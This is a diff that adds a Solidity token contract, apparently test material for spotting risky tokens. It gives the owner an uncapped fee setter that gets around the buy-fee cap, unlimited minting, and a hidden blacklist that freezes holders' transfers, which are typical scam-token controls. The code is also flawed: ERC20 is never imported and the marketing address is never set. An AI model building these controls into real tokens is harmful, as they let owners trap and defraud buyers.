@@ -0,0 +1,56 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.0;
+
+import "@openzeppelin/contracts/access/Ownable.sol";
+
+contract TaxedToken is ERC20, Ownable {
+    mapping(address => bool) private _isBlacklisted;
+    mapping(address => bool) public isExcludedFromFee;
+
+    uint256 public buyFee = 5;
+    uint256 public sellFee = 12;
+    uint256 public maxTxAmount;
+    bool public tradingOpen;
+    address private marketing;
+
+    modifier onlyMarketing() {
+        require(msg.sender == marketing, "not marketing");
+        _;
+    }
+
+    // function mint(address to, uint256 amount) external onlyOwner {}
+    /* function pause() external onlyOwner {} */
+
+    function setFees(uint256 buy, uint256 sell) external onlyOwner {
+        buyFee = buy;
+        sellFee = sell;
+    }
+
+    function setBuyFee(uint256 buy) external onlyOwner {
+        require(buy <= 10, "fee too high");
+        buyFee = buy;
+    }
+
+    function setBots(address[] calldata bots, bool flag) external onlyMarketing {
+        for (uint256 i = 0; i < bots.length; i++) {
+            _isBlacklisted[bots[i]] = flag;
+        }
+    }
+
+    function openTrading() external onlyOwner {
+        tradingOpen = true;
+    }
+
+    function setMaxTxAmount(uint256 amount) external onlyOwner {
+        maxTxAmount = amount;
+    }
+
+    function mint(address to, uint256 amount) public onlyOwner {
+        _mint(to, amount);
+    }
+
+    function transfer(address to, uint256 amount) public override returns (bool) {
+        require(!_isBlacklisted[msg.sender], "blacklisted");
+        return super.transfer(to, amount);
+    }
+}